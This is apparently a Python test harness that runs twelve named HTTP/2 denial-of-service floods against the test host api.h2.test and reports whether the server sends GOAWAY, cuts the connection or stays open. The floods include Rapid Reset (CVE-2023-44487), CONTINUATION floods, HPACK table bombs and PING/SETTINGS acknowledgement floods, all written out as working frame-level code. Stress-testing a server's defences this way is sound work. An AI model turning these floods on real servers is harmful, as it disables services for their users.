"""h2_floods.py NAME: what a box could use up its helper with, by HTTP/2. Prints how the connection has ended: "goaway CODE",
"cut", or "open" with the streams that were answered.
"""
import os
import socket
import struct
import sys
import time

import hpack

from h2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, TOKEN, WINDOW, Client,
                       frame)

KEY = ("authorization", f"Bearer {TOKEN}")
WIDE = [(4, (1 << 31) - 1)]  # SETTINGS_INITIAL_WINDOW_SIZE


def verdict(client):
    if client.goaway is not None:
        return f"goaway {client.goaway}"
    return "cut" if client.closed else "open"


def send_until_stuck(client, data, most):
    """Sends DATA again and again, at most MOST bytes, and reads nothing. Ends when nothing is taken any more."""
    client.line.settimeout(1)
    sent = 0
    try:
        while sent < most:
            client.line.sendall(data)
            sent += len(data)
    except OSError:
        pass
    return sent


def block(client, path="/who", method="GET"):
    return hpack.Encoder().encode(client.pseudo(path, method), huffman=False)


def resets(client):
    """CVE-2023-44487."""
    head, number = block(client, "/never"), 1
    for _ in range(200):
        data = b""
        for _ in range(100):
            data += frame(HEADERS, END_HEADERS | END_STREAM, number, head) + frame(RESET, 0, number, b"\0\0\0\x08")
            number += 2
        client.send(data)
    while client.read():
        pass
    return verdict(client)


def continuations(client):
    client.send(frame(HEADERS, END_STREAM, 1, block(client)))
    part = hpack.Encoder().encode([(f"x-{i}", "y" * 100) for i in range(100)])
    for _ in range(2000):
        client.send(frame(CONTINUATION, 0, 1, part))
    while client.read():
        pass
    return verdict(client)


def bombs(client):
    """A field of 4000 bytes is in the dynamic table, and then one byte each."""
    first = hpack.Encoder().encode(client.pseudo("/never") + [("x-a", "y" * 3900)], huffman=False)
    client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
    head = block(client, "/never") + b"\xbe" * 16000
    for number in range(3, 401, 2):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, number, head))
    while client.read():
        pass
    return verdict(client)


def acks(kind):
    def flood(client):
        """Answers to it are never read."""
        payload = bytes(8) if kind == PING else struct.pack(">HI", 3, 1)
        send_until_stuck(client, frame(kind, 0, 0, payload) * 1000, 64 << 20)
        return "stuck" if not client.closed else "cut"
    return flood


def refusals(client):
    for _ in range(150):
        client.wait(client.ask("/who", ("x-note", TOKEN)))
        if client.goaway is not None or client.closed:
            break
    return verdict(client)


def many(client):
    """The first hundred are still open."""
    for _ in range(100):
        client.ask("/never")
    one = client.ask("/who")
    return f"{client.wait(one)}, {verdict(client)}"


def unread(client):
    """Much is sent for it, and never read: first the windows are wide, and the socket is full."""
    client.send(frame(WINDOW, 0, 0, struct.pack(">I", (1 << 30))))
    for _ in range(50):
        client.ask("/big", KEY)
    return verdict(client)


def narrow(client):
    for _ in range(100):
        client.ask("/big", KEY)
    return verdict(client)


def uploads(client):
    """The server takes nothing of what is sent, as far as there is room for it."""
    sent = 0
    numbers = [client.head(client.pseudo("/stuck", "POST") + [KEY], end=False) for _ in range(100)]
    client.line.settimeout(3)
    moved = True
    while moved:
        moved = False
        for number in numbers:
            while client.room(number) >= 1000:
                client.send(frame(DATA, 0, number, bytes(1000)))
                client.windows[0] -= 1000
                client.windows[number] = client.windows.get(number, 0) - 1000
                sent += 1000
                moved = True
        moved |= client.read()
    return "open, less than 40 MB" if sent < 40 << 20 else f"open, {sent}"


def given_up(client):
    """The server takes one request at a time, and all that wait for it are given up. It goes on with the first."""
    first = client.head(client.pseudo("/few", "POST"), end=False)
    while not client.answers[first].interim and client.read():
        pass
    for _ in range(300):
        client.send(frame(RESET, 0, client.ask("/never"), b"\0\0\0\x08"))
    client.send(frame(DATA, END_STREAM, first, b"x"))
    return f"{client.wait(first)}, {client.wait(client.ask('/who'))}, {verdict(client)}"


def crowd(client):
    """As many streams as there may be, each with as much as it may have on its way, in both directions, and nobody reads. The
    first 32 have passed enough to get a wide window."""
    client.gives_room = False
    client.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))
    wide = [client.ask("/big", KEY) for _ in range(32)]
    while any(len(client.answers[number].body) < 200000 for number in wide) and client.read():
        pass
    others = []
    for _ in range(21):
        other = Client("api.h2.test", [(4, 1)])
        others.append(other)
        other.line.settimeout(2)
        numbers = [other.head(other.pseudo("/both", "POST") + [KEY], end=False) for _ in range(100)]
        for size in (16384, 16384, 16384, 16383):
            for number in numbers:
                other.send(frame(DATA, 0, number, bytes(size)))
    time.sleep(1)
    # As a program of the box that has nothing to do with this one.
    last = Client("api.h2.test")
    return f"{last.wait(last.ask('/who'))} for another, {verdict(client)}"


FLOODS = {"resets": resets, "continuations": continuations, "bombs": bombs, "pings": acks(PING), "settings": acks(SETTINGS),
          "refusals": refusals, "many": many, "given-up": given_up, "unread": unread, "narrow": narrow, "uploads": uploads, "crowd": crowd}
name = sys.argv[1]
settings = {"unread": WIDE, "narrow": [(4, 1)], "crowd": [(4, 200000)]}.get(name, ())
print(name + ":", FLOODS[name](Client("api.h2.test", settings)))
